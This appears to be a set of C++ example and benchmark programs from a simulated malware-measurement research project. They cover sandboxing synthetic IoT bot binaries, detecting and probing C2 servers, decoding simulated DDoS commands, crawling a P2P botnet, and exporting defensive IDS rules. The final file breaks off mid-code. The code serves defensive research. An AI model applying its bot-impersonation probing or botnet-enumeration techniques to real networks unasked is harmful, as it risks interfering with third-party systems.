// ddos_watch: the eavesdropping workflow (§2.5) — connect a bot to its live
// C2 inside the restricted sandbox, watch the C2 issue attack commands,
// decode them with the protocol profiles, and verify the launched floods
// never escape containment.
#include <iostream>

#include "botnet/c2server.hpp"
#include "core/ddos.hpp"
#include "emu/sandbox.hpp"
#include "mal/binary.hpp"

int main() {
  using namespace malnet;

  sim::EventScheduler sched;
  sim::Network net(sched);

  // An attack-issuing Daddyl33t C2: one TLS flood and one BLACKNURSE, the
  // §5.2 "one target hit by multiple attacks" pattern.
  botnet::C2ServerConfig cfg;
  cfg.family = proto::Family::kDaddyl33t;
  cfg.ip = net::Ipv4{60, 66, 6, 6};
  cfg.port = 1312;
  cfg.accept_prob = 1.0;
  cfg.mean_dormancy = sim::Duration::minutes(10);
  proto::AttackCommand tls;
  tls.type = proto::AttackType::kTls;
  tls.target = {net::Ipv4{63, 1, 77, 9}, 443};
  tls.duration_s = 30;
  proto::AttackCommand nurse;
  nurse.type = proto::AttackType::kBlacknurse;
  nurse.target = {tls.target.ip, 0};  // same victim, second attack type
  nurse.duration_s = 30;
  cfg.attack_plan = {tls, nurse};
  botnet::C2Server c2(net, cfg, util::Rng(4));

  mal::MbfBinary bin;
  bin.behavior.family = proto::Family::kDaddyl33t;
  bin.behavior.c2_ip = cfg.ip;
  bin.behavior.c2_port = cfg.port;
  bin.behavior.bot_id = "daddy.mips.watch";
  util::Rng rng(5);
  const auto binary = mal::forge(bin, rng);

  emu::Sandbox sandbox(net);
  emu::SandboxOptions opts;
  opts.mode = emu::SandboxMode::kLive;
  opts.duration = sim::Duration::hours(2);  // the paper's restricted window
  opts.allowed_c2 = c2.endpoint();

  emu::SandboxReport report;
  sandbox.start(binary, opts, [&](const emu::SandboxReport& r) { report = r; });
  sched.run_until(sched.now() + sim::Duration::hours(3));

  std::cout << "2-hour restricted watch complete: " << report.capture.size()
            << " packets captured, " << report.packets_dropped
            << " contained at the perimeter\n\n";

  const auto detections = core::detect_ddos(report, c2.endpoint(),
                                            proto::Family::kDaddyl33t);
  for (const auto& det : detections) {
    std::cout << (det.verified ? "[verified] " : "[unverified] ")
              << det.command.summary() << "\n  method: " << core::to_string(det.method)
              << ", observed rate " << det.observed_pps << " pps\n  raw command: "
              << util::to_string(det.command.raw);
    if (det.command.raw.empty() || det.command.raw.back() != '\n') std::cout << '\n';
  }
  std::cout << "\n(the bot flooded " << int{tls.target.ip.octet(0)} << ".x.x."
            << int{tls.target.ip.octet(3)}
            << " inside the sandbox; nothing reached the simulated internet)\n";
  return 0;
}
