// intel_export: the deployment story of §1 ("Potential Impact") — run a
// study, then turn its datasets into artifacts a defender can actually
// ship: a SNORT ruleset (self-checked through the in-tree IDS parser), an
// iptables fragment and a plain blocklist.
#include <fstream>
#include <iostream>

#include "core/pipeline.hpp"
#include "report/rules_export.hpp"

int main() {
  using namespace malnet;

  core::PipelineConfig cfg;
  cfg.seed = 22;
  cfg.world.total_samples = 300;
  cfg.run_probe_campaign = false;
  core::Pipeline pipeline(cfg);
  const auto results = pipeline.run();

  const auto iocs = report::build_blocklist(results);
  std::cout << "study produced " << iocs.size() << " verified IoCs ("
            << results.d_c2s.size() << " raw C2 records; unverified ones are "
            << "held back to avoid the §3.3 false-positive trap)\n";

  // Self-check: every generated rule must compile in our own IDS.
  const auto compiled = report::compile_exported_rules(results);
  std::cout << "generated SNORT ruleset compiles: " << compiled.size()
            << " rules\n\n";

  const auto snort = report::export_snort_rules(results);
  std::ofstream("malnet.rules") << snort;
  std::ofstream("malnet.iptables") << report::export_iptables(results);
  std::ofstream("malnet.blocklist") << report::export_plain_blocklist(results);
  std::cout << "wrote malnet.rules, malnet.iptables, malnet.blocklist\n\n";

  // Show a taste of each.
  std::cout << "--- malnet.rules (head) ---\n";
  std::size_t shown = 0, pos = 0;
  while (shown < 6 && pos < snort.size()) {
    const auto nl = snort.find('\n', pos);
    std::cout << snort.substr(pos, nl - pos) << '\n';
    pos = nl + 1;
    ++shown;
  }
  return 0;
}
