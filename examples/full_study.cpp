// full_study: the paper-scale reproduction — 1447 samples over the Appendix
// E week layout plus the two-week probing campaign. Prints every table and
// figure of the evaluation and exports the datasets as CSV.
#include <fstream>
#include <iostream>

#include "core/pipeline.hpp"
#include "report/export_series.hpp"
#include "report/figures.hpp"
#include "report/summary.hpp"
#include "report/tables.hpp"
#include "util/csv.hpp"
#include "util/log.hpp"

namespace {

void write_file(const std::string& path, const std::string& content) {
  std::ofstream f(path);
  if (!f) throw std::runtime_error("cannot write " + path);
  f << content;
  std::cout << "wrote " << path << '\n';
}

void export_csvs(const malnet::core::StudyResults& r) {
  using namespace malnet;
  util::CsvWriter c2s({"address", "is_dns", "ip", "port", "asn", "country",
                       "discovery_day", "distinct_samples", "live_days",
                       "observed_lifespan_days", "vt_same_day", "vt_requery"});
  for (const auto& [addr, rec] : r.d_c2s) {
    c2s.field(addr)
        .field(std::uint64_t{rec.is_dns})
        .field(net::to_string(rec.ip))
        .field(std::uint64_t{rec.port})
        .field(std::uint64_t{rec.asn})
        .field(rec.as_country)
        .field(rec.discovery_day)
        .field(std::int64_t{rec.distinct_samples})
        .field(std::uint64_t{rec.live_days.size()})
        .field(rec.observed_lifespan_days())
        .field(std::uint64_t{rec.vt_malicious_same_day})
        .field(std::uint64_t{rec.vt_malicious_requery});
    c2s.end_row();
  }
  write_file("d_c2s.csv", c2s.str());

  util::CsvWriter exploits({"sample", "day", "vulnerability", "downloader", "loader"});
  for (const auto& e : r.d_exploits) {
    exploits.field(e.sample_sha)
        .field(e.day)
        .field(vulndb::to_string(e.vuln))
        .field(e.downloader_host)
        .field(e.loader_name);
    exploits.end_row();
  }
  write_file("d_exploits.csv", exploits.str());

  util::CsvWriter ddos({"sample", "day", "c2", "attack_type", "family", "target",
                        "method", "observed_pps"});
  for (const auto& d : r.d_ddos) {
    ddos.field(d.sample_sha)
        .field(d.day)
        .field(d.c2_address)
        .field(proto::to_string(d.detection.command.type))
        .field(proto::to_string(d.detection.command.family))
        .field(net::to_string(d.detection.command.target))
        .field(core::to_string(d.detection.method))
        .field(d.detection.observed_pps, 1);
    ddos.end_row();
  }
  write_file("d_ddos.csv", ddos.str());
}

}  // namespace

int main(int argc, char** argv) {
  using namespace malnet;
  util::set_log_level(util::LogLevel::kInfo);

  core::PipelineConfig cfg;
  cfg.seed = argc > 1 ? std::stoull(argv[1]) : 22;
  core::Pipeline pipeline(cfg);
  const auto results = pipeline.run();
  util::set_log_level(util::LogLevel::kOff);

  const auto& asdb = pipeline.asdb();
  std::cout << '\n'
            << report::table1_datasets(results) << '\n'
            << report::table2_top_ases(results, asdb) << '\n'
            << report::table3_ti_miss(results) << '\n'
            << report::table4_vulnerabilities(results) << '\n'
            << report::table7_vendors(results, pipeline.ti(), cfg.requery_day) << '\n'
            << report::figure1_heatmap(results, asdb) << '\n'
            << report::figure2_lifetime_ip(results) << '\n'
            << report::figure3_lifetime_domain(results) << '\n'
            << report::figure4_probe_raster(results) << '\n'
            << report::figure5_samples_per_c2(results) << '\n'
            << report::figure6_samples_per_domain(results) << '\n'
            << report::figure7_vendor_cdf(results) << '\n'
            << report::figure8_vuln_timeseries(results) << '\n'
            << report::figure9_loaders(results) << '\n'
            << report::figure10_ddos_protocols(results, asdb) << '\n'
            << report::figure11_ddos_types(results, asdb) << '\n'
            << report::figure12_targets(results, asdb) << '\n'
            << report::figure13_as_cdf(results) << '\n';

  export_csvs(results);
  const auto n = report::write_figure_series(results, pipeline.asdb(), ".");
  std::cout << "wrote " << n << " per-figure CSV series\n";
  return 0;
}
