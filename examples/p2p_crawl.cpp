// p2p_crawl: the extension the paper's §2.3a filter leaves open — instead
// of discarding P2P (Mozi/Hajime) samples, detonate one to learn its
// bootstrap peers, then crawl the DHT overlay and enumerate the botnet.
#include <iostream>

#include "botnet/p2p_overlay.hpp"
#include "core/p2p_crawl.hpp"
#include "emu/sandbox.hpp"
#include "mal/binary.hpp"
#include "proto/p2p.hpp"

int main() {
  using namespace malnet;

  sim::EventScheduler sched;
  sim::Network net(sched);

  // A 60-node Mozi-style overlay with realistic churn.
  botnet::OverlayConfig ocfg;
  ocfg.node_count = 60;
  ocfg.availability = 0.8;
  auto overlay = botnet::build_overlay(net, ocfg);
  std::cout << "overlay up: " << overlay.nodes.size() << " bots, availability "
            << ocfg.availability << "\n";

  // Step 1: sandbox a Mozi sample; its DHT gossip reveals bootstrap peers.
  mal::MbfBinary bin;
  bin.behavior.family = proto::Family::kMozi;
  bin.behavior.node_id = std::string(20, 'S');
  bin.behavior.p2p_peers = overlay.bootstrap;
  util::Rng rng(6);
  emu::Sandbox sandbox(net);
  emu::SandboxReport report;
  sandbox.start(mal::forge(bin, rng), {}, [&](const emu::SandboxReport& r) {
    report = r;
  });
  sched.run_until(sched.now() + sim::Duration::minutes(12));

  std::set<net::Endpoint> bootstrap;
  for (const auto& p : report.capture) {
    if (p.proto == net::Protocol::kUdp && proto::p2p::looks_like_dht(p.payload) &&
        p.dst_port != 0 && p.src_port != 53) {
      bootstrap.insert(p.destination());
    }
  }
  std::cout << "sandbox capture reveals " << bootstrap.size()
            << " bootstrap peers\n";

  // Step 2: crawl the overlay from those peers.
  sim::Host vantage(net, net::Ipv4{192, 0, 2, 99}, "crawler");
  core::CrawlResult result;
  bool done = false;
  core::P2pCrawler crawler(vantage,
                           {bootstrap.begin(), bootstrap.end()}, {},
                           [&](core::CrawlResult r) {
                             result = std::move(r);
                             done = true;
                           });
  crawler.start();
  while (!done) sched.run_until(sched.now() + sim::Duration::minutes(10));

  std::cout << "crawl complete: discovered " << result.discovered.size() << "/"
            << overlay.nodes.size() << " bots (" << result.responsive.size()
            << " responsive) with " << result.queries_sent << " queries\n";
  std::cout << "first ten members:\n";
  int shown = 0;
  for (const auto& ep : result.discovered) {
    if (++shown > 10) break;
    std::cout << "  " << net::to_string(ep) << '\n';
  }
  return 0;
}
