// probe_campaign: the D-PC2 study standalone (§2.3b) — scout 6 suspicious
// /24 subnets on the 12 Table 5 ports, engage listeners with weaponized
// Gafgyt/Mirai binaries, and render the Figure 4 responsiveness raster.
#include <iostream>

#include "botnet/probe_world.hpp"
#include "core/prober.hpp"
#include "emu/sandbox.hpp"
#include "mal/binary.hpp"
#include "report/render.hpp"
#include "report/summary.hpp"
#include "util/str.hpp"

int main() {
  using namespace malnet;

  sim::EventScheduler sched;
  sim::Network net(sched);
  emu::Sandbox sandbox(net);
  auto world = botnet::build_probe_world(net);

  std::cout << "probe world: " << world.subnets.size() << " subnets, "
            << world.c2s.size() << " hidden C2s, " << world.banners.size()
            << " benign banner hosts\nports:";
  for (const auto p : botnet::table5_ports()) std::cout << ' ' << p;
  std::cout << "\n\n";

  std::vector<core::Weapon> weapons;
  for (const auto family : {proto::Family::kGafgyt, proto::Family::kMirai}) {
    mal::MbfBinary bin;
    bin.behavior.family = family;
    bin.behavior.c2_ip = net::Ipv4{60, 1, 1, 1};
    bin.behavior.c2_port = 23;
    util::Rng rng(static_cast<std::uint64_t>(family) + 40);
    weapons.push_back(core::Weapon{mal::forge(bin, rng), {net::Ipv4{60, 1, 1, 1}, 23}});
  }

  core::ProbeCampaignConfig cfg;
  for (const auto& s : world.subnets) cfg.subnets.push_back(s);
  cfg.ports = botnet::table5_ports();
  cfg.rounds = 42;  // one week at the paper's 4-hour cadence

  core::ProbeCampaignResult result;
  bool done = false;
  core::ProbeCampaign campaign(net, sandbox, cfg, std::move(weapons),
                               [&](core::ProbeCampaignResult r) {
                                 result = std::move(r);
                                 done = true;
                               });
  campaign.start();
  while (!done) sched.run_until(sched.now() + sim::Duration::hours(6));

  std::cout << "campaign done: " << result.scout_probes << " scout probes, "
            << result.weapon_runs << " weaponized engagements, "
            << result.banner_filtered << " banner hosts filtered\n\n";

  std::vector<std::string> labels;
  std::vector<std::vector<bool>> rows;
  for (const auto& [ep, bits] : result.raster) {
    labels.push_back(net::to_string(ep));
    rows.push_back(bits);
  }
  std::cout << report::render_raster(labels, rows);

  const auto stats = report::probe_stats(result);
  std::cout << "\nsecond-probe (+4h) non-response: "
            << util::percent(stats.second_probe_nonresponse)
            << " (paper: 91%); days with all six probes answered: "
            << stats.days_with_all_probes_answered << " (paper: 0)\n";
  return 0;
}
