// c2_hunt: the CnCHunter workflow on a single binary (§2.1) —
//
//   1. forge a suspicious MIPS binary (stand-in for a feed download),
//   2. detonate it in the observe-mode sandbox behind fake internet,
//   3. classify its C2-bound traffic,
//   4. weaponize the binary and MITM-probe the referred C2 for liveness,
//   5. export the capture as a pcap.
#include <iostream>

#include "botnet/c2server.hpp"
#include "core/c2detect.hpp"
#include "core/prober.hpp"
#include "emu/sandbox.hpp"
#include "mal/binary.hpp"
#include "mal/labels.hpp"

int main() {
  using namespace malnet;

  sim::EventScheduler sched;
  sim::Network net(sched);

  // A live Gafgyt C2 somewhere on the simulated internet.
  botnet::C2ServerConfig c2cfg;
  c2cfg.family = proto::Family::kGafgyt;
  c2cfg.ip = net::Ipv4{60, 12, 3, 4};
  c2cfg.port = 666;
  c2cfg.accept_prob = 1.0;
  botnet::C2Server c2(net, c2cfg, util::Rng(11));

  // The "sample": a Gafgyt bot with a telnet sweep and that C2 inside.
  mal::MbfBinary bin;
  bin.behavior.family = proto::Family::kGafgyt;
  bin.behavior.c2_ip = c2cfg.ip;
  bin.behavior.c2_port = c2cfg.port;
  bin.behavior.bot_id = "gafgyt.mips.demo";
  bin.behavior.check_internet = true;
  bin.behavior.scans.push_back({23, std::nullopt, 40, 8.0});
  bin.marker_strings = {mal::family_marker(proto::Family::kGafgyt)};
  util::Rng rng(7);
  const auto binary = mal::forge(bin, rng);

  std::cout << "sample " << mal::digest(binary).substr(0, 16) << "…, YARA label: ";
  const auto label = mal::yara_label(binary);
  std::cout << (label ? proto::to_string(*label) : "(none)") << "\n\n";

  // Step 1-2: observe-mode detonation.
  emu::Sandbox sandbox(net);
  emu::SandboxOptions opts;
  opts.duration = sim::Duration::minutes(8);
  emu::SandboxReport observe;
  sandbox.start(binary, opts, [&](const emu::SandboxReport& r) { observe = r; });
  sched.run_until(sched.now() + sim::Duration::minutes(10));
  std::cout << "observe run: " << observe.capture.size() << " packets captured, "
            << observe.packets_dropped << " contained, " << observe.dns_queries.size()
            << " DNS queries\n";

  // Step 3: classify C2 candidates.
  const auto candidates = core::detect_c2(observe, sandbox.martian());
  for (const auto& cand : candidates) {
    std::cout << "C2 candidate: " << cand.address << ':' << cand.port << " ("
              << cand.connection_attempts << " connection attempts)\n";
  }
  if (candidates.empty()) {
    std::cout << "no C2 candidates found\n";
    return 1;
  }

  // Step 4: weaponized liveness probe against the referred endpoint.
  const auto& cand = candidates.front();
  bool engaged = false;
  core::probe_liveness(sandbox, core::Weapon{binary, cand.endpoint()},
                       cand.endpoint(), [&](core::LivenessResult res) {
                         engaged = res.engaged;
                         if (res.engaged) {
                           std::cout << "C2 is LIVE — first protocol bytes: "
                                     << util::hexdump(res.first_data, 32);
                         }
                       });
  sched.run_until(sched.now() + sim::Duration::minutes(3));
  if (!engaged) std::cout << "C2 did not engage (dead or dormant)\n";

  // Step 5: export the observe capture for Wireshark.
  observe.save_pcap("c2_hunt.pcap");
  std::cout << "capture written to c2_hunt.pcap (" << observe.capture.size()
            << " packets)\n";
  return 0;
}
