// Quickstart: run a scaled-down MalNet study end to end and print the
// headline findings. ~2 seconds; examples/full_study.cpp runs the
// paper-scale configuration and every table/figure.
#include <iostream>

#include "core/pipeline.hpp"
#include "report/figures.hpp"
#include "report/summary.hpp"
#include "report/tables.hpp"
#include "util/log.hpp"
#include "util/str.hpp"

int main() {
  using namespace malnet;
  util::set_log_level(util::LogLevel::kInfo);  // narrate the daily loop

  core::PipelineConfig cfg;
  cfg.seed = 22;
  cfg.world.total_samples = 300;  // scaled down from the paper's 1447
  cfg.probe_rounds = 24;          // four days of probing instead of 14
  core::Pipeline pipeline(cfg);
  const auto results = pipeline.run();

  std::cout << '\n'
            << report::table1_datasets(results) << '\n'
            << report::table3_ti_miss(results) << '\n'
            << report::figure2_lifetime_ip(results) << '\n'
            << report::figure4_probe_raster(results) << '\n'
            << report::figure11_ddos_types(results, pipeline.asdb()) << '\n';

  const auto ls = report::lifespan_stats(results);
  std::cout << "Headline: " << util::percent(ls.dead_on_arrival)
            << " of C2-referring samples had a dead C2 on arrival (paper: 60%); "
            << "attack-issuing C2s live " << util::fixed(ls.attacker_mean_days, 1)
            << " days vs " << util::fixed(ls.mean_days, 1) << " overall.\n";
  std::cout << "Simulated " << results.sim_events << " events across "
            << results.sandbox_runs << " sandbox runs.\n";
  return 0;
}
