// google-benchmark microbenchmarks for the substrate hot paths: the event
// scheduler, packet wire serialization, protocol codecs and the RNG.
#include <benchmark/benchmark.h>

#include "net/packet.hpp"
#include "proto/gafgyt.hpp"
#include "proto/mirai.hpp"
#include "sim/network.hpp"
#include "sim/scheduler.hpp"
#include "util/rng.hpp"

using namespace malnet;

static void BM_SchedulerChurn(benchmark::State& state) {
  for (auto _ : state) {
    sim::EventScheduler sched;
    const auto n = state.range(0);
    for (std::int64_t i = 0; i < n; ++i) {
      sched.after(sim::Duration::micros(i % 1000), [] {});
    }
    benchmark::DoNotOptimize(sched.run());
  }
  state.SetItemsProcessed(state.iterations() * state.range(0));
}
BENCHMARK(BM_SchedulerChurn)->Arg(1000)->Arg(10000);

static void BM_PacketWireRoundTrip(benchmark::State& state) {
  net::Packet p;
  p.src = net::Ipv4{10, 0, 0, 1};
  p.dst = net::Ipv4{10, 0, 0, 2};
  p.proto = net::Protocol::kTcp;
  p.src_port = 49152;
  p.dst_port = 23;
  p.payload = util::Bytes(static_cast<std::size_t>(state.range(0)), 0x41);
  for (auto _ : state) {
    benchmark::DoNotOptimize(net::from_wire(net::to_wire(p)));
  }
  state.SetBytesProcessed(state.iterations() * (20 + 20 + state.range(0)));
}
BENCHMARK(BM_PacketWireRoundTrip)->Arg(1)->Arg(128)->Arg(1400);

static void BM_MiraiAttackCodec(benchmark::State& state) {
  proto::AttackCommand cmd;
  cmd.type = proto::AttackType::kSynFlood;
  cmd.target = {net::Ipv4{203, 0, 113, 9}, 443};
  cmd.duration_s = 60;
  for (auto _ : state) {
    benchmark::DoNotOptimize(proto::mirai::decode_attack(proto::mirai::encode_attack(cmd)));
  }
}
BENCHMARK(BM_MiraiAttackCodec);

static void BM_GafgytAttackCodec(benchmark::State& state) {
  proto::AttackCommand cmd;
  cmd.type = proto::AttackType::kUdpFlood;
  cmd.target = {net::Ipv4{203, 0, 113, 9}, 80};
  cmd.duration_s = 60;
  for (auto _ : state) {
    benchmark::DoNotOptimize(proto::gafgyt::decode_attack(proto::gafgyt::encode_attack(cmd)));
  }
}
BENCHMARK(BM_GafgytAttackCodec);

static void BM_TcpEcho(benchmark::State& state) {
  // Full simulated TCP session: connect, one request/response, close.
  for (auto _ : state) {
    sim::EventScheduler sched;
    sim::Network net(sched);
    sim::Host server(net, net::Ipv4{10, 0, 0, 1});
    sim::Host client(net, net::Ipv4{10, 0, 0, 2});
    server.tcp_listen(80, [](sim::TcpConn& c) {
      c.on_data([](sim::TcpConn& conn, util::BytesView d) {
        conn.send(d);
        conn.close();
      });
    });
    client.tcp_connect({server.addr(), 80}, [](sim::ConnectOutcome, sim::TcpConn* c) {
      if (c != nullptr) c->send(std::string_view("ping"));
    });
    benchmark::DoNotOptimize(sched.run());
  }
}
BENCHMARK(BM_TcpEcho);

static void BM_RngZipf(benchmark::State& state) {
  util::Rng rng(1);
  for (auto _ : state) {
    benchmark::DoNotOptimize(rng.zipf(static_cast<std::uint64_t>(state.range(0)), 0.85));
  }
}
BENCHMARK(BM_RngZipf)->Arg(64)->Arg(1024);

BENCHMARK_MAIN();
