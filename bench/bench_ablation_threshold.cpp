// Ablation: the handshaker port threshold (§2.4 fixes it at 20 distinct
// destinations). Sweeps the threshold on a scaled-down study and reports
// how the exploit harvest responds — the paper's "value 20 ... gives good
// results" claim, quantified.
#include <iostream>
#include <set>

#include "common.hpp"
#include "util/str.hpp"

int main() {
  using namespace malnet;
  bench::banner("Ablation A1", "handshaker distinct-destination threshold (§2.4)");

  std::cout << util::pad_left("threshold", 10) << util::pad_left("exploit-samples", 17)
            << util::pad_left("vulns", 7) << util::pad_left("records", 9) << '\n';
  for (const int threshold : {5, 10, 20, 40, 60, 90}) {
    core::PipelineConfig cfg;
    cfg.seed = 22;
    cfg.world.total_samples = 400;
    cfg.handshaker_threshold = threshold;
    cfg.run_probe_campaign = false;
    core::Pipeline pipeline(cfg);
    const auto results = pipeline.run();

    std::set<std::string> samples;
    std::set<int> vulns;
    for (const auto& e : results.d_exploits) {
      samples.insert(e.sample_sha);
      vulns.insert(static_cast<int>(e.vuln));
    }
    std::cout << util::pad_left(std::to_string(threshold), 10)
              << util::pad_left(std::to_string(samples.size()), 17)
              << util::pad_left(std::to_string(vulns.size()), 7)
              << util::pad_left(std::to_string(results.d_exploits.size()), 9) << '\n';
  }
  std::cout << "\nExpected shape: the harvest saturates below the typical sweep size\n"
               "(40-80 targets) and collapses once the threshold exceeds it — the\n"
               "paper's choice of 20 sits on the plateau.\n";
  return 0;
}
