// Ablation: threat-intelligence aggregation. §3.3: "for lower false
// negatives, an effective blacklist needs to aggregate data from multiple
// sources". Measures same-day coverage of the study's C2s using the single
// best feed, the union of the top-k feeds, and the full aggregate.
#include <algorithm>
#include <iostream>
#include <vector>

#include "common.hpp"
#include "intel/threat_intel.hpp"
#include "util/str.hpp"

int main() {
  using namespace malnet;
  bench::banner("Ablation A4", "blacklist aggregation across TI feeds (§3.3)");

  const auto& results = bench::full_study();
  const auto& ti = bench::full_pipeline().ti();

  // Rank vendors by their eventual coverage over discovered C2s.
  std::vector<std::string> addresses;
  std::vector<std::int64_t> days;
  for (const auto& [addr, rec] : results.d_c2s) {
    addresses.push_back(addr);
    days.push_back(rec.discovery_day);
  }
  const auto counts = ti.vendor_counts(addresses, 404);
  std::vector<std::size_t> order(counts.size());
  for (std::size_t i = 0; i < order.size(); ++i) order[i] = i;
  std::sort(order.begin(), order.end(), [&](std::size_t a, std::size_t b) {
    return counts[a].second > counts[b].second;
  });

  std::cout << util::pad_left("feeds used", 12) << util::pad_left("same-day coverage", 19)
            << "\n";
  for (const int k : {1, 2, 4, 8, 16, 44}) {
    int covered = 0;
    for (std::size_t i = 0; i < addresses.size(); ++i) {
      bool flagged = false;
      for (int v = 0; v < k && !flagged; ++v) {
        flagged = ti.vendor_flags(order[static_cast<std::size_t>(v)], addresses[i],
                                  days[i]);
      }
      if (flagged) ++covered;
    }
    std::cout << util::pad_left("top-" + std::to_string(k), 12)
              << util::pad_left(
                     util::percent(static_cast<double>(covered) / addresses.size()), 19)
              << '\n';
  }
  std::cout << "\nExpected shape: single-feed same-day coverage is poor; the union\n"
               "keeps improving well past the first few feeds — aggregation pays.\n";
  return 0;
}
