// Auto-structured reproduction bench; see DESIGN.md experiment index.
#include <iostream>

#include "common.hpp"
#include "report/figures.hpp"
#include "report/tables.hpp"

int main() {
  using namespace malnet;
  bench::banner("Figure 6", "CDF of binaries per C2 domain");
  const auto& r = bench::full_study();
  const auto& p = bench::full_pipeline();
  (void)p;
  std::cout << report::figure6_samples_per_domain(r) << std::endl;
  return 0;
}
