// Serve S3: latency and throughput of the concurrent query server.
//
// Drives an in-process serve::Server over a freshly-built store with 1, 64
// and 1024 concurrent clients (one connection each, thread-per-client load
// generation) and reports per-level p50/p99 request latency and queries/sec.
// Three correctness gates run alongside the numbers, any failure exits 1:
//   * every response is byte-identical to the single-client QueryEngine
//     answer for the same query, at every concurrency level;
//   * store.payload_bytes_read stays 0 for the whole run (index-only
//     answering survives concurrency);
//   * with a baseline file, each level's p99 must stay within
//     tolerance x baseline p99 (the CI latency-regression gate against the
//     committed BENCH_serve.json).
// Results land in bench_metrics.json (same shape as BENCH_serve.json).
//
//   bench_serve [total_samples] [total_queries_per_level] [baseline.json]
//               [tolerance]
//   defaults:    600             2560                      (none)     8.0
#include <algorithm>
#include <atomic>
#include <chrono>
#include <cstdio>
#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <map>
#include <sstream>
#include <string>
#include <thread>
#include <vector>

#include "core/parallel_study.hpp"
#include "obs/expo.hpp"
#include "obs/json.hpp"
#include "obs/window.hpp"
#include "serve/admin.hpp"
#include "serve/client.hpp"
#include "serve/server.hpp"
#include "store/query.hpp"
#include "store/store.hpp"
#include "util/socket.hpp"

namespace {

using namespace malnet;

const std::vector<std::string> kQueries = {"totals", "families", "c2-liveness",
                                           "exploits"};

struct LevelResult {
  int clients = 0;
  std::uint64_t responses = 0;
  double p50_us = 0.0;
  double p99_us = 0.0;
  double qps = 0.0;
};

double percentile(std::vector<double>& v, double p) {
  if (v.empty()) return 0.0;
  const auto k = static_cast<std::size_t>(p * static_cast<double>(v.size() - 1));
  std::nth_element(v.begin(), v.begin() + static_cast<std::ptrdiff_t>(k), v.end());
  return v[k];
}

/// One level of the load test: `clients` connections, ~`total_queries`
/// requests spread across them, every answer byte-compared.
LevelResult run_level(std::uint16_t port, int clients, int total_queries,
                      const std::vector<std::string>& expected,
                      std::atomic<int>& mismatches) {
  const int per_client = std::max(2, total_queries / clients);
  std::vector<std::vector<double>> latencies(
      static_cast<std::size_t>(clients));
  std::atomic<std::uint64_t> responses{0};

  const auto t0 = std::chrono::steady_clock::now();
  std::vector<std::thread> threads;
  threads.reserve(static_cast<std::size_t>(clients));
  for (int c = 0; c < clients; ++c) {
    threads.emplace_back([&, c] {
      serve::Client client;
      // The 1024-client stampede can overflow the accept queue briefly;
      // the client's retry/backoff absorbs it.
      if (!client.connect("127.0.0.1", port,
                          {.connect_timeout_ms = 5000, .max_retries = 4})) {
        mismatches.fetch_add(1);
        return;
      }
      auto& lat = latencies[static_cast<std::size_t>(c)];
      lat.reserve(static_cast<std::size_t>(per_client));
      for (int i = 0; i < per_client; ++i) {
        const auto k =
            (static_cast<std::size_t>(c) + static_cast<std::size_t>(i)) %
            kQueries.size();
        const auto q0 = std::chrono::steady_clock::now();
        const auto answer = client.query(kQueries[k]);
        const auto us = std::chrono::duration<double, std::micro>(
                            std::chrono::steady_clock::now() - q0)
                            .count();
        if (!answer || *answer != expected[k]) {
          mismatches.fetch_add(1);
          return;
        }
        lat.push_back(us);
        responses.fetch_add(1);
      }
    });
  }
  for (auto& t : threads) t.join();
  const double wall =
      std::chrono::duration<double>(std::chrono::steady_clock::now() - t0)
          .count();

  std::vector<double> all;
  for (auto& v : latencies) all.insert(all.end(), v.begin(), v.end());
  LevelResult r;
  r.clients = clients;
  r.responses = responses.load();
  r.p50_us = percentile(all, 0.50);
  r.p99_us = percentile(all, 0.99);
  r.qps = wall > 0 ? static_cast<double>(r.responses) / wall : 0.0;
  return r;
}

/// Baseline gate: measured p99 per level must stay within tolerance x the
/// committed baseline's p99. Returns false (gate failed) on regression;
/// a missing/malformed baseline file is an error too — the gate must not
/// pass vacuously.
bool check_baseline(const std::vector<LevelResult>& results,
                    const std::string& path, double tolerance) {
  std::ifstream in(path);
  if (!in) {
    std::printf("BASELINE: cannot open %s\n", path.c_str());
    return false;
  }
  std::stringstream ss;
  ss << in.rdbuf();
  const auto doc = obs::json::parse(ss.str());
  if (!doc || !doc->find("levels") || !doc->find("levels")->is_array()) {
    std::printf("BASELINE: %s is not a bench_serve metrics file\n",
                path.c_str());
    return false;
  }
  bool ok = true;
  for (const auto& r : results) {
    for (const auto& level : doc->find("levels")->array) {
      const auto* clients = level.find("clients");
      const auto* p99 = level.find("p99_us");
      if (!clients || !p99 || !clients->is_number() || !p99->is_number()) {
        continue;
      }
      if (static_cast<int>(clients->number) != r.clients) continue;
      const double limit = p99->number * tolerance;
      const bool pass = r.p99_us <= limit;
      std::printf("baseline %4d clients: p99 %9.0f us vs limit %9.0f us "
                  "(baseline %9.0f x %.1f)  %s\n",
                  r.clients, r.p99_us, limit, p99->number, tolerance,
                  pass ? "ok" : "REGRESSION");
      if (!pass) ok = false;
    }
  }
  return ok;
}

}  // namespace

int main(int argc, char** argv) {
  std::printf("=== MalNet reproduction: Serve S3 — concurrent query server "
              "latency/throughput ===\n\n");
  const int samples = argc > 1 ? std::atoi(argv[1]) : 600;
  const int total_queries = argc > 2 ? std::atoi(argv[2]) : 2560;
  const std::string baseline = argc > 3 ? argv[3] : "";
  const double tolerance = argc > 4 ? std::atof(argv[4]) : 8.0;

  // Fixture: a real sharded study committed through the store.
  const std::string dir = "bench-serve.dir";
  std::filesystem::remove_all(dir);
  core::ParallelStudyConfig cfg;
  cfg.base.seed = 22;
  cfg.base.world.total_samples = samples;
  cfg.base.run_probe_campaign = false;
  cfg.shards = 8;
  cfg.jobs = 8;
  store::Store st(dir);
  (void)store::run_store_study(cfg, st, /*resume=*/false);

  // Ground truth from a single-client engine over a separate store handle.
  std::vector<std::string> expected;
  {
    store::Store truth(dir);
    store::QueryEngine engine(truth);
    for (const auto& q : kQueries) expected.push_back(engine.answer(q));
  }

  const std::vector<int> levels = {1, 64, 1024};
  const std::size_t want_fds =
      2 * static_cast<std::size_t>(levels.back()) + 256;
  const auto fd_limit = util::raise_fd_limit(want_fds);
  std::printf("samples=%d store_segments=%zu total_queries/level=%d "
              "fd_limit=%zu\n\n",
              samples, st.segments().size(), total_queries, fd_limit);

  obs::Registry registry;
  serve::ServeConfig scfg;
  scfg.io_threads = 4;
  serve::Server server(st, scfg, registry);
  server.start();

  std::atomic<int> mismatches{0};
  std::vector<LevelResult> results;
  std::printf("%8s  %12s  %12s  %12s  %10s\n", "clients", "responses",
              "p50 (us)", "p99 (us)", "qps");
  for (const int clients : levels) {
    if (want_fds > fd_limit && clients > 256) {
      std::printf("%8d  skipped: fd limit %zu too low\n", clients, fd_limit);
      continue;
    }
    const auto r =
